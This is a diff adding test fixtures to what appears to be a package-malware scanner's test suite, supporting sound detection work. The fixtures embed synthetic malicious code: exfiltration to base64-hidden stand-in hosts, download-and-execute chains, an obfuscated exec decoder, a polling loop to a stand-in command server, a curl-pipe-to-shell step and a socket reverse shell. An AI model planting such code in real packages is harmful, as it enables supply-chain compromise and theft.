@@ -247,13 +247,13 @@ https.request(hook, { method: 'POST' }).end('installed')
   },
   {
     rule: 'hides-network-destination',
-    name: 'install code fetches a base64-decoded URL',
+    name: 'install code fetches from a base64-decoded host',
     scan: () =>
       npm(
         {
           'x.js': `const https = require('https')
-const target = Buffer.from('aHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGUuY29tLw==', 'base64').toString()
-https.get(target)
+const host = Buffer.from('Y29sbGVjdC5leGFtcGxlLmNvbQ==', 'base64').toString()
+https.get('https://' + host + '/')
 `,
         },
         postinstall('node x.js'),
@@ -261,6 +261,156 @@ https.get(target)
     file: 'x.js',
     line: 3,
     weight: 80,
+    verdict: 'hold',
+  },
+  {
+    rule: 'hides-network-destination',
+    name: 'a library function sends its argument to an address another module keeps base64-encoded',
+    scan: () =>
+      sdist({
+        'synthetic_pkg/__init__.py': 'from .keys import parse_key\n',
+        'synthetic_pkg/constants.py': "SIGN_KEY = 'aHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGUuY29tL2s/dj0='\n",
+        'synthetic_pkg/keys.py': `import base64, requests
+from .constants import SIGN_KEY
+
+def parse_key(key):
+    requests.get(str(base64.b64decode(SIGN_KEY), encoding='utf-8') + key)
+    return key
+`,
+      }),
+    file: 'synthetic_pkg/keys.py',
+    line: 5,
+    weight: 60,
+    verdict: 'hold',
+  },
+  {
+    rule: 'downloads-and-executes',
+    name: 'import code saves a download through `with open(…) as f` and runs it',
+    scan: () =>
+      sdist({
+        'synthetic_pkg/__init__.py': `import requests, subprocess
+r = requests.get('https://files.example.com/u/0/uc?id=1')
+with open('default.bin', 'wb') as f:
+    f.write(r.content)
+subprocess.run('default.bin', shell=True)
+`,
+      }),
+    file: 'synthetic_pkg/__init__.py',
+    line: 5,
+    weight: 90,
+    verdict: 'hold',
+  },
+  {
+    rule: 'decodes-and-executes',
+    name: 'a lambda decoder over a reversed base64 blob, called in parentheses',
+    scan: () =>
+      sdist({
+        'synthetic_pkg/__init__.py': `_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'=${'QUJDRGVmZ2hpamtsbW5vcHFyc3R1dnd4eXowMTIzNDU2Nzg5'.repeat(6)}'))\n`,
+      }),
+    file: 'synthetic_pkg/__init__.py',
+    line: 1,
+    weight: 100,
+    verdict: 'hold',
+  },
+  {
+    rule: 'decodes-and-executes',
+    name: 'import code decodes an embedded program and saves it as a script',
+    scan: () =>
+      sdist({
+        'synthetic_pkg/backends/__init__.py': '',
+        'synthetic_pkg/__init__.py': 'from .backends import flow\n',
+        'synthetic_pkg/backends/flow.py': `import base64, os
+blob = '${Buffer.from(`import requests\nimport time\nwhile True:\n    exec(requests.get('https://c2.example.com/task').text)\n    time.sleep(60)\n${'# keep-alive\n'.repeat(12)}`).toString('base64')}'
+code = base64.b64decode(blob.encode('ascii')).decode('ascii')
+f = open(os.getcwd() + '/x.py', 'w')
+f.write(code)
+f.close()
+`,
+      }),
+    file: 'synthetic_pkg/backends/flow.py',
+    line: 5,
+    weight: 90,
+    verdict: 'hold',
+  },
+  {
+    rule: 'downloads-and-executes',
+    name: 'import code writes a script to /tmp and runs it with python3',
+    scan: () =>
+      sdist({
+        'synthetic_pkg/__init__.py': `import subprocess
+with open('/tmp/.cache.py', 'w') as f:
+    f.write("""import subprocess
+subprocess.call("curl -s https://get.example.net/s.sh | sh", shell=True)
+""")
+subprocess.call("python3 /tmp/.cache.py >/dev/null 2>&1 &", shell=True)
+`,
+      }),
+    file: 'synthetic_pkg/__init__.py',
+    weight: 90,
+    verdict: 'hold',
+  },
+  {
+    rule: 'remote-shell',
+    name: 'a library function moves stdin/stdout onto a socket and spawns bash',
+    scan: () =>
+      sdist({
+        'synthetic_pkg/__init__.py': `import socket, os, pty
+
+def connect(host, port):
+    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    s.connect((host, port))
+    os.dup2(s.fileno(), 0)
+    os.dup2(s.fileno(), 1)
+    pty.spawn("/bin/bash")
+`,
+      }),
+    file: 'synthetic_pkg/__init__.py',
+    line: 8,
+    weight: 60,
+    verdict: 'hold',
+  },
+  {
+    rule: 'decodes-and-executes',
+    name: "a package's __main__.py (python -m) decodes and runs code",
+    scan: () =>
+      sdist({
+        'synthetic_pkg/__init__.py': '',
+        'synthetic_pkg/__main__.py': "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
+      }),
+    file: 'synthetic_pkg/__main__.py',
+    line: 2,
+    weight: 90,
+    verdict: 'hold',
+  },
+  {
+    rule: 'downloads-and-executes',
+    name: 'one function saves a download to a path, another runs that path',
+    scan: () =>
+      sdist({
+        'synthetic_pkg/__init__.py': `import requests, subprocess
+
+def fetch(url):
+    return requests.get(url).text
+
+def save(path, data):
+    f = open(path, 'a')
+    f.write(data)
+    f.close()
+
+def launch(path):
+    subprocess.Popen(f"python {path}", shell=True)
+
+def main():
+    target = '/tmp/p.py'
+    save(target, fetch('https://files.example.com/p.py'))
+    launch(target)
+
+main()
+`,
+      }),
+    file: 'synthetic_pkg/__init__.py',
+    line: 17,
+    weight: 90,
     verdict: 'hold',
   },
   {
@@ -350,7 +500,7 @@ setup(name='synthetic-pkg', version='1.0.0')
 `,
       }),
     file: 'setup.py',
-    line: 5,
+    line: 6,
     weight: 100,
     verdict: 'hold',
   },
